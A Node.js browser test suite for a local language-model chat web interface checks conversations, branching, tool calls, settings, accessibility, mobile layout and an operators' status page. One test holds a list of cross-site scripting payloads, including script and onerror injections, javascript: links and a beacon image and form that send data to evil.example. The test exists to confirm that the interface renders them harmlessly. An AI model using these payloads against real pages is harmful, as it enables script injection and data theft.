// The page as its users see it.   node in_browser.mjs PROGRAM CHROMIUM FOLDER [--pictures]
// FOLDER has axe-core in its node_modules, and gets logs, exported files and, with --pictures, the pictures of the
// docs.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import test, { after, before } from 'node:test';
import { Browser } from './browser.mjs';
import { Server, scripted } from './servers.mjs';

const [program, chromium, folder, ...flags] = process.argv.slice(2);
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
let browser, fast, slow, locked;

before(async () => {
  [browser, fast, slow, locked] = await Promise.all([
    Browser.launch(chromium),
    Server.start(program, folder, 'fast', []),
    // 50 tokens a second
    Server.start(program, folder, 'slow', ['--backend', 'reference', '--ctx', '2048', '--threads', '1']),
    Server.start(program, folder, 'locked', ['--api-key', 'k-right']),
  ]);
});
after(async () => {
  await Promise.all([browser.close(), ...[fast, slow, locked].map((server) => server.stop())]);
});

// A list of strings that is long enough to do something in the meantime.
const longAnswer = {
  format: 'schema',
  schema: JSON.stringify({ type: 'array', items: { type: 'string', maxLength: 12 }, minItems: 24, maxItems: 26 }),
  seed: '1',
};

const ready = (page) =>
  page.waitFor(
    () =>
      document.querySelector('#send') &&
      !document.querySelector('#send').disabled &&
      document.querySelector('#model').value !== 'No model',
  );
async function open(url, { settings, size, path = '/' } = {}) {
  const page = await browser.newPage(size);
  const values = JSON.stringify(JSON.stringify(settings));
  if (settings)
    await page.beforeLoad(`if (location.protocol === 'http:') localStorage.setItem('heddle-defaults', ${values})`);
  await page.goto(url + path);
  return page;
}
async function openChat(url, options) {
  const page = await open(url, options);
  await ready(page);
  return page;
}
async function say(page, text) {
  await page.click('#input');
  await page.type(text);
  await page.press('Enter');
}
const idle = (page) =>
  page.waitFor(() => document.querySelector('.message.assistant') && !document.querySelector('.message.running'));
const texts = (page) =>
  page.evaluate(() => [...document.querySelectorAll('.message')].map((one) => one.querySelector('.body').innerText));
const lastText = async (page) => (await texts(page)).at(-1);
const answerLength = (page, count) =>
  page.waitFor((least) => {
    const all = document.querySelectorAll('.message.assistant .body');
    return all.length && all[all.length - 1].innerText.length >= least;
  }, count);
async function expectClean(page, url) {
  const others = page.requests.filter(
    (one) => !one.startsWith(`${url}/`) && one !== 'about:blank' && !one.startsWith('blob:'),
  );
  assert.deepEqual(others, [], 'requests beyond the own origin');
  assert.deepEqual(page.problems, [], 'errors of the page');
  await page.close();
}
const axe = `${folder}/node_modules/axe-core/axe.min.js`;
async function expectAccessible(page, where) {
  if (!existsSync(axe)) return;
  if (!(await page.evaluate(() => Boolean(window.axe)))) await page.evaluate(readFileSync(axe, 'utf8') + ';0');
  const faults = await page.evaluate(async () => {
    const { violations } = await window.axe.run(document, { resultTypes: ['violations'] });
    return violations.map(
      (one) =>
        `${one.impact} ${one.id}: ${one.nodes
          .map((node) => `${node.target} ${node.failureSummary}`)
          .slice(0, 3)
          .join(' / ')}`,
    );
  });
  assert.deepEqual(faults, [], where);
}

test('a conversation', async () => {
  const page = await openChat(fast.url);
  await say(page, 'Once upon a time');
  await idle(page);
  const [question, answer] = await texts(page);
  assert.equal(question, 'Once upon a time');
  assert.ok(answer.length > 20, answer);
  assert.match(
    await page.evaluate(() => document.querySelector('.message.assistant .figures').innerText),
    /\d+ tokens . [\d,.]+ tokens\/s . first token/,
  );
  assert.match(
    await page.evaluate(() => document.querySelector('#gauge').getAttribute('aria-valuetext')),
    /Context: \d+ of 512 tokens/,
  );
  assert.equal(await page.evaluate(() => document.querySelector('#announce').innerText), 'The answer is complete');
  await say(page, 'And then?');
  await page.waitFor(() => document.querySelectorAll('.message').length === 4);
  await idle(page);
  assert.equal((await texts(page))[1], answer);
  assert.equal(await page.evaluate(() => document.querySelectorAll('#conversations li').length), 1);
  await page.reload();
  await ready(page);
  assert.equal((await texts(page)).length, 4, 'it is kept');
  await page.press('n', { alt: true });
  await page.waitFor(() => document.querySelector('.welcome'));
  await expectClean(page, fast.url);
});

test('an answer is stopped, and continued', async () => {
  const page = await openChat(slow.url, { settings: { maxTokens: '400', seed: '3', temperature: '0' } });
  await say(page, 'Once upon a time');
  await answerLength(page, 30);
  await page.click('#send');
  await idle(page);
  assert.equal(await page.evaluate(() => document.querySelector('.assistant .state').innerText), 'Stopped');
  const stopped = (await lastText(page)).trimEnd();
  await page.click('[aria-label="Continue"]');
  await answerLength(page, stopped.length + 20);
  await page.press('Escape');
  await idle(page);
  const continued = await lastText(page);
  assert.ok(continued.startsWith(stopped), `${continued} goes on with ${stopped}`);
  assert.equal((await texts(page)).length, 2);
  await expectClean(page, slow.url);
});

test('an answer goes on when the page is reloaded', async () => {
  const page = await openChat(slow.url, { settings: longAnswer });
  await say(page, 'A list, please');
  await answerLength(page, 40);
  const before = await lastText(page);
  await page.reload();
  await page.waitFor(() => document.querySelector('.message.running'));
  await answerLength(page, before.length + 20); // it still comes piece by piece
  const middle = await lastText(page);
  assert.ok(middle.startsWith(before.trimEnd()), `${middle} goes on with ${before}`);
  // away for a while, and back at the end
  await page.goto('about:blank');
  await wait(500);
  await page.goto(`${slow.url}/`);
  await page.click('.conversation');
  await idle(page);
  const whole = await lastText(page);
  assert.ok(whole.startsWith(before.trimEnd()));
  const list = JSON.parse(whole);
  assert.ok(list.length >= 24 && list.length <= 26, `all of it: ${list.length}`);
  await page.reload();
  await ready(page);
  assert.equal(await lastText(page), whole);
  await expectClean(page, slow.url);
});

test('branches', async () => {
  const page = await openChat(fast.url, { settings: { maxTokens: '12' } });
  await say(page, 'Tell me a story');
  await idle(page);
  const first = await lastText(page);
  assert.match(await page.evaluate(() => document.querySelector('.assistant .state').innerText), /limit of tokens/);
  await page.click('[aria-label="Regenerate"]');
  await page.waitFor(
    () =>
      document.querySelector('.assistant .branches')?.innerText.includes('2/2') && !document.querySelector('.running'),
  );
  const second = await lastText(page);
  await page.click('[aria-label="Previous version"]');
  await page.waitFor((text) => document.querySelector('.assistant .body').innerText === text, first);
  await page.click('.user [aria-label="Edit"]');
  await page.evaluate(() => (document.querySelector('textarea.edit').value = 'There was'));
  await page.click('.user .primary');
  await page.waitFor(
    () => document.querySelector('.user .branches')?.innerText.includes('2/2') && !document.querySelector('.running'),
  );
  assert.equal((await texts(page))[0], 'There was');
  await page.reload();
  await ready(page);
  assert.equal((await texts(page))[0], 'There was');
  await page.click('.user [aria-label="Previous version"]');
  await page.waitFor(() => document.querySelector('.user .body').innerText === 'Tell me a story');
  assert.equal(await lastText(page), first);
  await page.click('.assistant [aria-label="Next version"]');
  await page.waitFor((text) => document.querySelector('.assistant .body').innerText === text, second);
  // an answer that was edited is a branch of its own, without a new answer
  await page.click('.assistant [aria-label="Edit"]');
  await page.evaluate(() => (document.querySelector('textarea.edit').value = 'My own'));
  await page.click('.assistant .primary');
  await page.waitFor(() => document.querySelector('.assistant .branches').innerText.includes('3/3'));
  assert.equal(await lastText(page), 'My own');
  await expectClean(page, fast.url);
});

const hostile = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 2">',
  '[click](javascript:window.hacked=3)',
  '<a href="javascript:window.hacked=4">x</a>',
  '![x](javascript:window.hacked=5)',
  '![beacon](https://evil.example/?secret)',
  '```html\n<img src=x onerror="window.hacked = 6">\n```',
  '```"><img src=x onerror=window.hacked=7>\ncode\n```',
  '$\\text{<img src=x onerror=window.hacked=8>}$',
  '$<script>window.hacked=9</script>$',
  '| <img src=x onerror=window.hacked=10> | b |\n|---|---|\n| <svg onload=window.hacked=11> | c |',
  '<iframe src="javascript:window.hacked=12"></iframe>',
  '<style>body{display:none}</style>',
  '&lt;script&gt;window.hacked=13&lt;/script&gt;',
  '[x](data:text/html,<script>window.hacked=14</script>)',
  '<form action="https://evil.example"><input name=a></form>',
  '\u202e\u0000<b>bold</b>',
  '# <u>heading</u>',
  '- <details open ontoggle=window.hacked=15>',
];

test('what a hostile model writes stays text', async () => {
  const stub = await scripted(fast.url, () => [
    ['response.reasoning_text.delta', { delta: hostile.join('\n\n') }],
    ['response.output_text.delta', { delta: hostile.slice(0, 8).join('\n\n') }],
    ['response.output_text.delta', { delta: `\n\n${hostile.slice(8).join('\n\n')}` }],
    [
      'response.output_item.added',
      {
        item: {
          type: 'function_call',
          call_id: '"><script>window.hacked=16</script>',
          name: '<img src=x onerror=window.hacked=17>',
        },
      },
    ],
    ['response.function_call_arguments.delta', { delta: '{"a": "<script>window.hacked=18</script>"}' }],
  ]);
  const page = await openChat(stub.url);
  await say(page, '<img src=x onerror="window.hacked = 19">');
  await idle(page);
  await page.evaluate(() => (document.querySelector('.thought').open = true));
  await wait(300);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  const found = await page.evaluate(() => ({
    elements: document.querySelectorAll(
      '#log :is(script, img, iframe, form:not(.results), style, object, embed, u, b, link, meta)',
    ).length,
    links: [...document.querySelectorAll('#log a')].map((one) => one.href),
    handlers: [...document.querySelectorAll('#log *')].filter((one) =>
      [...one.attributes].some(({ name }) => name.startsWith('on')),
    ).length,
    shown: document.querySelector('.message.assistant .body').innerText,
    title: document.title,
  }));
  assert.equal(found.elements, 0);
  assert.equal(found.handlers, 0);
  assert.deepEqual(
    [...new Set(found.links)],
    ['https://evil.example/?secret', 'https://evil.example/'],
    'a picture is a link, which is not followed by itself',
  );
  for (const text of [
    '<script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 6">',
    '<iframe src="javascript:window.hacked=12"></iframe>',
    '<script>window.hacked=13</script>',
  ])
    assert.ok(found.shown.includes(text), text);
  assert.ok(found.title.startsWith('<img src=x'), found.title);
  await expectClean(page, stub.url);
  stub.stop();
});

// What the page can show, for the eye and for axe.
const rich = `Newton's method finds a root by following tangents. With $f(x) = x^2 - 2$:

$$x_{n+1} = x_n - \\frac{f(x_n)}{f'(x_n)} = \\frac{1}{2}\\left(x_n + \\frac{2}{x_n}\\right)$$

\`\`\`python
def newton(x, steps=4):
    """The square root of two."""
    for _ in range(steps):
        x = 0.5 * (x + 2 / x)  # twice the digits
    return x
\`\`\`

| step | value | error |
|-----:|------:|:------|
| 1 | 1.5 | 8.6e-2 |
| 2 | 1.416667 | 2.5e-3 |
| 3 | 1.414216 | **2.1e-6** |

Each step *doubles* the number of correct digits, see [the proof](https://example.org/newton).`;
const showRich = () => [
  ['response.reasoning_text.delta', { delta: 'The user wants an example. Newton for the square root is short.' }],
  ['response.reasoning_text.done', {}],
  ['response.output_text.delta', { delta: rich }],
];

test('code, tables, formulas and thoughts are shown as such', async () => {
  const stub = await scripted(fast.url, showRich);
  const page = await openChat(stub.url);
  await say(page, 'Show me a numerical method');
  await idle(page);
  const found = await page.evaluate(() => ({
    math: document.querySelectorAll('.body math').length,
    fractions: document.querySelectorAll('mfrac').length,
    code: document.querySelector('.code pre').innerText,
    keywords: [...document.querySelectorAll('.hl-keyword')].map((one) => one.innerText),
    rows: document.querySelectorAll('.table tbody tr').length,
    folded: document.querySelector('.thought').open,
    link: document.querySelector('.body a').rel,
    wide: document.querySelector('math[display=block]').getBoundingClientRect().width,
  }));
  assert.deepEqual([found.math, found.fractions, found.rows, found.folded], [2, 3, 3, false]);
  assert.ok(found.code.startsWith('def newton(x, steps=4):\n    """'));
  assert.deepEqual(found.keywords, ['def', 'for', 'in', 'return']);
  assert.ok(found.link.includes('noopener') && found.wide > 100);
  await page.evaluate(() => {
    window.copied = [];
    navigator.clipboard.writeText = async (text) => window.copied.push(text);
  });
  await page.click('.code .copy');
  await page.click('.assistant .tools .copy');
  await page.waitFor(() => window.copied.length === 2);
  assert.deepEqual(await page.evaluate(() => window.copied), [found.code, rich]);
  await expectClean(page, stub.url);
  stub.stop();
});

test('tools are called, and their results sent', async () => {
  const asked = [];
  const stub = await scripted(
    fast.url,
    () => (
      asked.push(1),
      asked.length === 1
        ? [
            ['response.output_item.added', { item: { type: 'function_call', call_id: 'call_1', name: 'weather' } }],
            ['response.function_call_arguments.delta', { delta: '{"city":"Bonn"}' }],
          ]
        : [['response.output_text.delta', { delta: 'It rains.' }]]
    ),
  );
  const page = await openChat(stub.url);
  await say(page, 'Weather?');
  await idle(page);
  assert.match(
    await page.evaluate(() => document.querySelector('.call').innerText),
    /Tool call: weather[^]*"city": "Bonn"/,
  );
  await page.click('.results textarea');
  await page.type('rain');
  await page.click('.results .primary');
  await page.waitFor(() => document.querySelectorAll('.message').length === 4 && !document.querySelector('.running'));
  assert.deepEqual((await texts(page)).slice(2), ['rain', 'It rains.']);
  await expectClean(page, stub.url);
  stub.stop();
});

test('several models, and whether they are loaded', async () => {
  let asked;
  const stub = await scripted(
    fast.url,
    (body) => ((asked = JSON.parse(body).model), [['response.output_text.delta', { delta: 'Hello' }]]),
    [
      { id: 'a', max_model_len: 100 },
      { id: 'b', status: { value: 'unloaded' } },
      { id: 'c', status: 'loading', max_model_len: 300 },
      { id: 'd', status: 'resting' },
    ],
  );
  const page = await openChat(stub.url);
  assert.deepEqual(
    await page.evaluate(() => [...document.querySelectorAll('#model option')].map((one) => one.innerText)),
    ['a', 'b (not loaded)', 'c (loading)', 'd (resting)'],
  );
  await page.evaluate(() => {
    const model = document.querySelector('#model');
    model.value = 'c';
    model.dispatchEvent(new Event('change'));
  });
  await page.waitFor(
    () => document.querySelector('.model .dot.loading') && document.querySelector('#gauge').innerText.includes('300'),
  );
  await say(page, 'Hello');
  await idle(page);
  assert.equal(asked, 'c');
  await page.reload();
  await ready(page);
  assert.equal(await page.evaluate(() => document.querySelector('#model').value), 'c', 'it is remembered');
  await expectClean(page, stub.url);
  stub.stop();
});

test('with the keyboard alone', async () => {
  const page = await openChat(fast.url, { settings: { maxTokens: '10' } });
  assert.equal(await page.evaluate(() => document.activeElement.id), 'input', 'one can write at once');
  await page.type('One');
  await page.press('Enter');
  await idle(page);
  await page.press('Escape');
  await page.press('k');
  assert.ok(await page.evaluate(() => document.activeElement.matches('.message.assistant')));
  await page.press('r');
  await page.waitFor(
    () => document.querySelector('.branches')?.innerText.includes('2/2') && !document.querySelector('.running'),
  );
  await page.press('j');
  await page.press('[');
  await page.waitFor(() => document.querySelector('.branches').innerText.includes('1/2'));
  assert.ok(
    await page.evaluate(() => document.activeElement.matches('.message.assistant')),
    'the message keeps the focus',
  );
  await page.press('k');
  await page.press('e');
  await page.waitFor(() => document.activeElement.matches('textarea.edit'));
  await page.press('Escape');
  assert.ok(
    await page.evaluate(
      () => !document.querySelector('textarea.edit') && document.activeElement.matches('.message.user'),
    ),
  );
  await page.press('?', { shift: true });
  await page.waitFor(() => document.querySelector('dialog[open] kbd'));
  await page.press('Escape');
  await page.waitFor(() => !document.querySelector('dialog'));
  await page.press(',', { alt: true });
  await page.waitFor(() => document.querySelector('dialog [name=temperature]'));
  assert.deepEqual(
    await page.evaluate(() => {
      const { min, max } = document.querySelector('[name=temperature]');
      return [min, max];
    }),
    ['0', '2'],
    "the server's limits",
  );
  await page.press('Escape');
  await page.press('n', { alt: true });
  await page.waitFor(() => document.activeElement.id === 'input' && document.querySelector('.welcome'));
  await page.press('ArrowDown', { alt: true });
  await page.waitFor(() => document.querySelectorAll('.message').length === 2);
  await page.press('k', { ctrl: true });
  assert.equal(await page.evaluate(() => document.activeElement.id), 'search');
  await page.type('nothing like it');
  await page.waitFor(() => document.querySelector('#conversations').innerText === 'Nothing found');
  for (let i = 0, seen = new Set(); i < 40 && !seen.has('input'); ++i) {
    // every stop shows where it is
    await page.press('Tab');
    const { id, outlined } = await page.evaluate(() => ({
      id: document.activeElement.id,
      outlined: document.activeElement.matches(':focus-visible'),
    }));
    assert.ok(outlined || id === '', id);
    seen.add(id);
    if (i === 39) assert.fail('the message field is reached by Tab');
  }
  await expectClean(page, fast.url);
});

test('settings hold, and wrong ones are refused', async () => {
  const page = await openChat(fast.url);
  await page.click('#settings');
  await page.click('[name=system]');
  await page.type('Be brief.');
  await page.evaluate(() => {
    const set = (name, value) => {
      const node = document.querySelector(`[name=${name}]`);
      node.value = value;
      node.dispatchEvent(new Event('input'));
    };
    set('temperature', '3');
    set('tools', '{');
  });
  assert.deepEqual(
    await page.evaluate(() =>
      ['temperature', 'tools'].map((name) => document.querySelector(`[name=${name}]`).checkValidity()),
    ),
    [false, false],
  );
  assert.match(await page.evaluate(() => document.querySelector('.problem:not(:empty)').innerText), /Not JSON/);
  await page.evaluate(() => {
    const set = (name, value) => {
      const node = document.querySelector(`[name=${name}]`);
      node.value = value;
      node.dispatchEvent(new Event('input'));
    };
    set('temperature', '0.5');
    set('tools', '');
    set('maxTokens', '7');
  });
  const theme = (value) =>
    page.evaluate((name) => {
      const one = [...document.querySelectorAll('dialog select')].find((select) =>
        select.querySelector(`[value=${name}]`),
      );
      one.value = name;
      one.dispatchEvent(new Event('change'));
      return document.documentElement.dataset.theme;
    }, value);
  assert.deepEqual([await theme('dark'), await theme('light')], ['dark', 'light']);
  await page.click('dialog button[type=submit]');
  await page.waitFor(() => !document.querySelector('dialog'));
  let sent;
  page.browser.listeners.push(({ method, params }) => {
    if (method === 'Network.requestWillBeSent' && params.request.url.endsWith('/v1/responses'))
      sent = JSON.parse(params.request.postData);
  });
  await say(page, 'Hello');
  await idle(page);
  assert.deepEqual(
    [sent.instructions, sent.temperature, sent.max_output_tokens, sent.tools, sent.background],
    ['Be brief.', 0.5, 7, undefined, true],
  );
  await expectClean(page, fast.url);
});

test('files, search, titles, export and import', async () => {
  const page = await openChat(fast.url, { settings: { maxTokens: '5' } });
  writeFileSync(`${folder}/note.txt`, 'The note says hello.');
  writeFileSync(`${folder}/bad.bin`, Buffer.from([0, 1, 2, 255]));
  await page.setFiles('#files', [`${folder}/note.txt`, `${folder}/bad.bin`]);
  await page.waitFor(
    () =>
      document.querySelector('#attached').innerText.includes('note.txt') &&
      document.querySelector('#notice').innerText.includes('bad.bin is not a text file'),
  );
  await page.waitFor(() => /Context: (?!0 )\d+ of/.test(document.querySelector('#gauge').title));
  await say(page, 'What does it say?');
  await idle(page);
  assert.equal(await page.evaluate(() => document.querySelector('.user .files').innerText), 'note.txt');
  await page.press('n', { alt: true });
  await say(page, 'Something else');
  await idle(page);
  await page.click('#search');
  await page.type('else');
  await page.waitFor(() => document.querySelectorAll('#conversations li').length === 1);
  await page.evaluate(() => {
    const search = document.querySelector('#search');
    search.value = '';
    search.dispatchEvent(new Event('input'));
  });
  await page.click('#conversations li.current [aria-label^="Rename"]');
  await page.waitFor(() => document.querySelector('dialog input'));
  await page.evaluate(() => (document.querySelector('dialog input').value = 'Renamed'));
  await page.press('Enter');
  await page.waitFor(() => document.querySelector('#head h1').innerText === 'Renamed');
  await browser.send('Browser.setDownloadBehavior', {
    behavior: 'allow',
    browserContextId: page.browserContextId,
    downloadPath: `${folder}/exported`,
  });
  await page.click('.more summary');
  await page.click('#export-all');
  const file = `${folder}/exported/conversations.json`;
  for (let i = 0; i < 100 && !existsSync(file); ++i) await wait(50);
  const data = JSON.parse(readFileSync(file, 'utf8'));
  assert.deepEqual(data.conversations.map((one) => one.title).sort(), ['', 'Renamed']);
  copyFileSync(file, `${folder}/import.json`); // the browser may still touch its download: then it cannot be read
  await page.setFiles('#import', [`${folder}/import.json`]);
  await page.waitFor(() => document.querySelectorAll('#conversations li').length === 4);
  writeFileSync(`${folder}/broken.json`, '{"kind":"x"}');
  await page.setFiles('#import', [`${folder}/broken.json`]);
  await page.waitFor(() => document.querySelector('#notice').innerText.includes('was not imported'));
  await page.click('#conversations li.current [aria-label^="Delete"]');
  await page.click('dialog .danger');
  await page.waitFor(() => document.querySelectorAll('#conversations li').length === 3);
  await expectClean(page, fast.url);
});

test('an API key is asked for', async () => {
  const page = await open(locked.url);
  await page.waitFor(() => document.querySelector('dialog input[type=password]'));
  await page.type('k-wrong');
  await page.press('Enter');
  await page.waitFor(() => document.querySelector('dialog')?.innerText.includes('does not accept'));
  await page.type('k-right');
  await page.press('Enter');
  await ready(page);
  assert.deepEqual(
    await page.evaluate(() => [sessionStorage.getItem('heddle-key'), localStorage.getItem('heddle-key')]),
    ['k-right', null],
  );
  await say(page, 'Hello');
  await idle(page);
  page.problems = page.problems.filter((one) => !one.includes('401'));
  await expectClean(page, locked.url);
});

test('in German', async () => {
  const page = await openChat(fast.url);
  await page.evaluate(() => localStorage.setItem('heddle-language', 'de'));
  await page.reload();
  await ready(page);
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'de');
  assert.match(await page.evaluate(() => document.body.innerText), /Wobei kann ich helfen\?/);
  await expectClean(page, fast.url);
});

test('on a phone', async () => {
  const page = await openChat(fast.url, { size: { width: 390, height: 844, mobile: true } });
  const visible = () => page.evaluate(() => document.querySelector('#sidebar').getBoundingClientRect().width > 0);
  assert.equal(await visible(), false);
  await say(page, `Once ${'upon'.repeat(40)}`);
  await idle(page);
  assert.ok(
    await page.evaluate(
      () =>
        document.documentElement.scrollWidth <= innerWidth && document.querySelector('#log').scrollWidth <= innerWidth,
    ),
    'nothing is wider than the screen',
  );
  await page.click('#menu');
  assert.equal(await visible(), true);
  await page.press('Escape');
  assert.equal(await visible(), false);
  const small = await page.evaluate(() =>
    [...document.querySelectorAll('button')]
      .filter((one) => one.offsetParent && Math.min(one.offsetWidth, one.offsetHeight) < 24)
      .map((one) => one.outerHTML),
  );
  assert.deepEqual(small, [], 'buttons that a finger misses');
  await expectClean(page, fast.url);
});

test('no serious fault for screen readers', { skip: existsSync(axe) ? false : 'axe-core is missing' }, async () => {
  const stub = await scripted(fast.url, showRich);
  for (const scheme of ['light', 'dark']) {
    const page = await openChat(stub.url);
    await page.scheme(scheme);
    await expectAccessible(page, `empty, ${scheme}`);
    await say(page, 'Show me a numerical method');
    await idle(page);
    await page.evaluate(() => (document.querySelector('.thought').open = true));
    await expectAccessible(page, `a conversation, ${scheme}`);
    await page.click('#settings');
    await page.waitFor(() => document.querySelector('dialog'));
    await expectAccessible(page, `settings, ${scheme}`);
    await page.press('Escape');
    await page.resize(390, 844, true);
    await expectAccessible(page, `phone, ${scheme}`);
    await expectClean(page, stub.url);
  }
  stub.stop();
});

const asks = (url, text) =>
  fetch(`${url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ messages: [{ role: 'user', content: text }], max_tokens: 20 }),
  }).then((response) => response.json());

test("the operators' view", async () => {
  const page = await open(fast.url, { path: '/status' });
  await page.waitFor(() => document.querySelectorAll('.chart').length === 8);
  await Promise.all(['Hello', 'Hello', 'A story'].map((text) => asks(fast.url, text)));
  await page.waitFor(
    () =>
      document.querySelectorAll('.waterfall tbody tr').length >= 3 &&
      document.querySelectorAll('.chart .line').length >= 8 &&
      /median/.test(document.querySelector('#panels').innerText),
  );
  const tiles = await page.evaluate(() =>
    Object.fromEntries(
      [...document.querySelectorAll('.tile')].map((one) => [one.children[0].textContent, one.children[1].textContent]),
    ),
  );
  assert.deepEqual(Object.keys(tiles), ['running', 'waiting', 'Tokens per second', 'KV cache', 'Prefix cache hits']);
  await page.click('#pause');
  const row = await page.evaluate(() => document.querySelector('.waterfall tbody tr').innerText);
  assert.match(row, /\/v1\/chat\/completions\s+\d+\s+\d+\s+[\d.]+ m?s/);
  assert.match(
    await page.evaluate(() => document.querySelector('.segments').getAttribute('aria-label')),
    /read and tokenize .* queue .* prompt .* generate/,
  );
  await page.click('.waterfall .row');
  await page.waitFor(() => document.querySelector('dialog .figures-table'));
  assert.match(
    await page.evaluate(() => document.querySelector('dialog').innerText),
    /Time to first token\s+[\d.]+ ms[^]*Total/,
  );
  await page.press('Escape');
  for (const scheme of ['light', 'dark']) {
    await page.scheme(scheme);
    await expectAccessible(page, `status, ${scheme}`);
  }
  await page.resize(390, 844, true);
  assert.ok(
    await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
    'nothing is wider than a phone',
  );
  await expectClean(page, fast.url);
});

test('a report stands alone', async () => {
  const report = `${folder}/report.html`;
  const ended = spawnSync(
    program,
    ['bench', 'weft', '--device', 'cpu', '-p', '8,16', '-n', '4', '-r', '2', '--html', report],
    { encoding: 'utf8' },
  );
  assert.equal(ended.status, 0, ended.stderr);
  const page = await browser.newPage();
  await page.goto(`file://${report}`);
  await page.waitFor(() => document.querySelectorAll('.bars').length === 2);
  assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('.bars th')].map((one) => one.innerText)), [
    '8 tokens',
    '16 tokens',
    '4 tokens',
  ]);
  assert.match(await page.evaluate(() => document.querySelector('.tiles').innerText), /Loaded in/);
  await expectAccessible(page, 'report');
  const withData = async (data) => {
    writeFileSync(
      report,
      readFileSync(report, 'utf8').replace(
        /(id="data">)[^<]*/,
        (_, begin) => begin + JSON.stringify(data).replace(/</g, '\\u003c'),
      ),
    );
    await page.reload();
    await page.waitFor(() => document.querySelector('.bars'));
    return page.evaluate(() =>
      [...document.querySelectorAll('.bars')].map(
        (one) =>
          `${one.querySelector('figcaption').innerText}: ${[...one.querySelectorAll('tr')]
            .map((row) =>
              [...row.children]
                .map((cell) => cell.innerText)
                .filter(Boolean)
                .join(' '),
            )
            .join('; ')}`,
      ),
    );
  };
  assert.deepEqual(
    await withData({
      device: 'G',
      compute_capability: 9,
      driver: '1',
      streaming_limit_gb_s: 1000,
      kernels_loaded: 1,
      cold_start_s: 1,
      cached_start_s: 0.1,
      kernels: [
        { kernel: 'k', shape: 's', microseconds: 2, fastest: 1, slowest: 3, gb_s: 500, tflop_s: 0.5, of_limit: 0.5 },
        { kernel: 'k', shape: 'f', failure: 'no <b>' },
      ],
    }),
    ['k: s 2 us 500 GB/s, 50 % of the limit, 0.5 TFLOP/s; f failed no <b>'],
  );
  const times = { p50: 0.0005, p90: 0.05, p99: 1.5, max: 2000 };
  assert.deepEqual(
    (
      await withData({
        requests: 2,
        seconds: 1,
        generated_tokens_per_second: 10,
        prompt_tokens_per_second: 5,
        prompt_tokens: 10,
        cached_tokens: 5,
        refused: 0,
        failed: 0,
        first_token_seconds: times,
        between_tokens_seconds: times,
      })
    ).slice(0, 1),
    ['Time to first token: p50 500 us; p90 50 ms; p99 1.5 s; max 2,000 s'],
  );
  assert.deepEqual(
    page.requests.filter((one) => !one.startsWith('file:') && one !== 'about:blank'),
    [],
  );
  assert.deepEqual(page.problems, []);
  await page.close();
});

test('pictures', { skip: !flags.includes('--pictures') }, async () => {
  const stub = await scripted(fast.url, showRich);
  for (const [name, scheme, size] of [
    ['light', 'light', {}],
    ['dark', 'dark', {}],
    ['narrow', 'light', { width: 390, height: 844, mobile: true }],
  ]) {
    const page = await openChat(stub.url, { size });
    await page.scheme(scheme);
    for (const title of ['Plan a week in the Eifel', 'Explain speculative decoding']) {
      await say(page, title);
      await idle(page);
      await page.press('n', { alt: true });
    }
    await say(page, 'Show me a numerical method');
    await idle(page);
    await page.evaluate(() => document.activeElement.blur());
    await page.evaluate(() => (document.querySelector('#log').scrollTop = 0));
    await wait(200);
    await page.screenshot(`${folder}/${name}.png`);
    await page.close();
  }
  stub.stop();
  const page = await open(fast.url, { path: '/status', size: { width: 1200, height: 1080 } });
  await page.scheme('light');
  const end = Date.now() + 24000;
  const client = async (pause) => {
    for (let i = 0; Date.now() < end; ++i, await wait(Math.random() * pause))
      await Promise.all([0, 1, 2].map((k) => asks(fast.url, `Tell me about ${i % 3 ? 'a dog' : Math.random()} ${k}`)));
  };
  await Promise.all([client(600), client(900)]);
  await page.screenshot(`${folder}/status.png`);
  await page.close();
});
